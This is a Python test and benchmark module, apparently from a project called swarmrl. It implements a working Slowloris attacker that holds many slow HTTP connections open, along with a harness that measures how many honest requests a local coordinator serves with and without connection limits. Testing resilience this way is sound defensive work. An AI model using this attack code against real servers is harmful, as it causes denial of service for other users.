"""Slowloris: one source holding every connection to a real coordinator that it can get (bench/byzantine.py's
`honest_success_under_slowloris`; tests/test_slowloris.py).

The attacker (`python -m swarmrl.testing.byzantine.slowloris URL --source 127.0.0.2`, or `hold` in a process of its
own) keeps `slots` connections going from one address: each sends a request line and then one byte of a header
every `trickle_s`, so that its request's head never ends; a connection the coordinator refuses (429/503) or closes
is opened again, a refused one after the Retry-After second the answer asks for. It prints what it holds as one JSON
line every `report_s` (`Tally`). Meanwhile `probe` sends honest requests from another address, each on a
connection of its own (the worst case: every one needs a free connection).

`LimitedCoordinator`: the coordinator as a real process with a small open-file limit (soft and hard, from its
start), so that an attacker can reach it: at that limit, with no bound on connections, every honest client was
locked out.
"""

from __future__ import annotations

import argparse
import asyncio
import json
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import asdict, dataclass
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx

from swarmrl.runtime.lifetime import PARENT_PID_ENV, die_with_parent_if_asked
from swarmrl.testing.processes import RoleProcess
from swarmrl.testing.waiting import wait_for

_LIMITED = ("import os, resource, sys; n = int(sys.argv[1]); resource.setrlimit(resource.RLIMIT_NOFILE, (n, n)); "
            "os.execv(sys.executable, [sys.executable, *sys.argv[2:]])")


@dataclass
class Tally:
    """What the attacker saw. `held`: its connections open now (a refused one until its refusal arrives); `refused`:
    connections answered (429, 503) and closed; `closed`: connections the coordinator closed unanswered (their
    deadline), the quickest after `closed_after_s` seconds (None: none yet)."""

    held: int = 0
    most_held: int = 0
    opened: int = 0
    refused: int = 0
    closed: int = 0
    closed_after_s: float | None = None
    connect_errors: int = 0


async def _slot(host: str, port: int, source: str, trickle_s: float, tally: Tally, stop: asyncio.Event) -> None:
    """One connection at a time, for as long as `stop` is not set (module docstring)."""
    while not stop.is_set():
        started = time.monotonic()  # before the connection begins: no later than the coordinator's start of it
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=(source, 0))
        except OSError:
            tally.connect_errors += 1
            await _pause(stop, 1.0)
            continue
        tally.opened += 1
        tally.held += 1
        tally.most_held = max(tally.most_held, tally.held)
        answered = b""
        try:
            writer.write(b"GET /v1/info HTTP/1.1\r\nHost: coordinator\r\nX-Slow: ")
            while not stop.is_set():
                try:
                    answered = await asyncio.wait_for(reader.read(4096), trickle_s)
                    break  # an answer (a refusal) or the end of the connection
                except TimeoutError:
                    writer.write(b"a")
                    await writer.drain()
        except (ConnectionError, OSError):
            pass
        finally:
            tally.held -= 1
            writer.close()
        if stop.is_set():
            break
        if answered:
            tally.refused += 1
            await _pause(stop, 1.0)  # what the answer's Retry-After asks
        else:
            tally.closed += 1
            lasted = time.monotonic() - started
            tally.closed_after_s = lasted if tally.closed_after_s is None else min(tally.closed_after_s, lasted)


async def _pause(stop: asyncio.Event, seconds: float) -> None:
    try:
        await asyncio.wait_for(stop.wait(), seconds)
    except TimeoutError:
        pass


async def hold(url: str, source: str, slots: int, trickle_s: float = 0.5, report_s: float = 1.0,
               stop: asyncio.Event | None = None) -> Tally:
    """Run the attack on the coordinator at `url` from `source` until `stop` is set (or SIGTERM, when run as a
    program), printing the tally as one JSON line every `report_s`; the last tally."""
    parts = urlsplit(url)
    host, port = parts.hostname or "127.0.0.1", parts.port or 80
    stop = stop or asyncio.Event()
    tally = Tally()
    tasks = [asyncio.create_task(_slot(host, port, source, trickle_s, tally, stop)) for _ in range(slots)]
    while not stop.is_set():
        print(json.dumps(asdict(tally)), flush=True)
        await _pause(stop, report_s)
    await asyncio.gather(*tasks)
    return tally


def probe(url: str, requests: int, source: str = "127.0.0.1", timeout_s: float = 10.0) -> int:
    """Honest requests (GET /v1/info), each on a new connection from `source`, one after another; how many were
    answered 200 within `timeout_s`."""
    served = 0
    for _ in range(requests):
        transport = httpx.HTTPTransport(local_address=source)
        with httpx.Client(base_url=url, timeout=timeout_s, transport=transport) as client:
            try:
                served += client.get("/v1/info").status_code == 200
            except httpx.HTTPError:
                pass
    return served


class Attacker:
    """`hold` as a process of its own; `tally` is its last printed line."""

    def __init__(self, url: str, source: str, slots: int, trickle_s: float = 0.5):
        cmd = [sys.executable, "-m", "swarmrl.testing.byzantine.slowloris", url, "--source", source,
               "--slots", str(slots), "--trickle-s", str(trickle_s)]
        self.proc = subprocess.Popen(cmd, stdout=subprocess.PIPE, text=True,
                                     env={**os.environ, PARENT_PID_ENV: str(os.getpid())})
        self.tally = Tally()
        self._reader = threading.Thread(target=self._read, daemon=True)
        self._reader.start()

    def _read(self) -> None:
        assert self.proc.stdout is not None
        for line in self.proc.stdout:
            self.tally = Tally(**json.loads(line))

    def stop(self) -> Tally:
        """SIGTERM, and its final tally."""
        self.proc.send_signal(signal.SIGTERM)
        try:
            self.proc.wait(timeout=60)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self._reader.join(timeout=10)
        return self.tally


class LimitedCoordinator(RoleProcess):
    """`swarmrl coordinator --config CONFIG` as a real process whose open-file limit is `nofile` from its start."""

    def __init__(self, config: Path, log: Path, nofile: int):
        super().__init__("coordinator", config, log)
        self.nofile = nofile

    def start(self) -> LimitedCoordinator:
        """What `RoleProcess.start` does, through a Python that sets the limit and then becomes the coordinator."""
        if self.alive:
            raise RuntimeError("coordinator is still running")
        self.log_path.parent.mkdir(parents=True, exist_ok=True)
        with self._changed:
            self.starts += 1
            self._first_line = len(self.lines)
        self.proc = subprocess.Popen([sys.executable, "-c", _LIMITED, str(self.nofile), "-m", "swarmrl.cli",
                                      self.role, "--config", str(self.config), *self.args],
                                     stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
                                     env={**self.env, PARENT_PID_ENV: str(os.getpid())}, start_new_session=True)
        self._reader = threading.Thread(target=self._drain, args=(self.proc,), daemon=True)
        self._reader.start()
        return self


UNBOUNDED = {"header_timeout_s": 1e9, "body_timeout_s": 1e9, "max_per_source": 10**6, "max_connections": 10**6,
             "reserved_share": 0.0}
"""Connection settings that bound nothing: the coordinator as it was before `coordinator.connections`."""


def arm(root: Path, bounded: bool, nofile: int, slots: int, requests: int, timeout_s: float,
        source: str = "127.0.0.2") -> dict[str, Any]:
    """One coordinator process (`nofile` open files) under one attacker (`slots` connections from `source`), with
    its default connection bounds or none (`UNBOUNDED`): `requests` honest requests from 127.0.0.1 (`probe`) once
    the attacker holds all it can (it was refused, or every slot is connected)."""
    root.mkdir(parents=True, exist_ok=True)
    settings = "" if bounded else "\n".join(f"{k} = {v!r}" for k, v in UNBOUNDED.items())
    config = root / "coordinator.toml"
    config.write_text(f'data_dir = "{root / "coord"}"\nport = 0\n[connections]\n{settings}\n')
    coordinator = LimitedCoordinator(config, root / "coordinator.log", nofile).start()
    attacker = None
    try:
        url = coordinator.url()
        attacker = Attacker(url, source, slots)
        wait_for(lambda: attacker.tally.refused > 0 or attacker.tally.opened >= slots,
                 "the attacker to hold all it can", timeout=120)
        started = time.monotonic()
        served = probe(url, requests, timeout_s=timeout_s)
        probe_s = time.monotonic() - started
        tally = attacker.stop()
    finally:
        if attacker is not None and attacker.proc.poll() is None:
            attacker.stop()
        coordinator.stop()
    return {"bounded": bounded, "nofile": nofile, "slots": slots, "honest_requests": requests, "honest_served": served,
            "honest_success": served / requests, "probe_s": round(probe_s, 2), "attacker": asdict(tally)}


def section(root: Path, repeats: int = 3, nofile: int = 1024, slots: int = 1500, requests: int = 200,
            log: Callable[[str], None] = print) -> dict[str, Any]:
    """`honest_success_under_slowloris`: the least share of honest requests served in `repeats` arms with the
    default bounds; beside it one arm without bounds (fewer requests: each of those waits out its timeout)."""
    runs = []
    for i in range(repeats):
        runs.append(arm(root / f"bounded-{i}", True, nofile, slots, requests, timeout_s=10.0))
        log(f"slowloris, bounded {i}: {runs[-1]['honest_served']}/{requests} honest requests served")
    runs.append(arm(root / "unbounded", False, nofile, slots, requests=10, timeout_s=5.0))
    log(f"slowloris, unbounded: {runs[-1]['honest_served']}/10 honest requests served")
    shares = [r["honest_success"] for r in runs if r["bounded"]]
    return {"honest_success_under_slowloris": min(shares), "honest_success_range": [min(shares), max(shares)],
            "honest_success_unbounded": runs[-1]["honest_success"], "runs": runs}


def main() -> None:
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("url")
    p.add_argument("--source", default="127.0.0.2", help="the address the connections come from")
    p.add_argument("--slots", type=int, default=1000, help="connections kept going at once")
    p.add_argument("--trickle-s", type=float, default=0.5, help="seconds between the header bytes")
    args = p.parse_args()
    die_with_parent_if_asked()

    async def run() -> None:
        stop = asyncio.Event()
        asyncio.get_running_loop().add_signal_handler(signal.SIGTERM, stop.set)
        tally = await hold(args.url, args.source, args.slots, args.trickle_s, stop=stop)
        print(json.dumps(asdict(tally)), flush=True)

    asyncio.run(run())


if __name__ == "__main__":
    main()
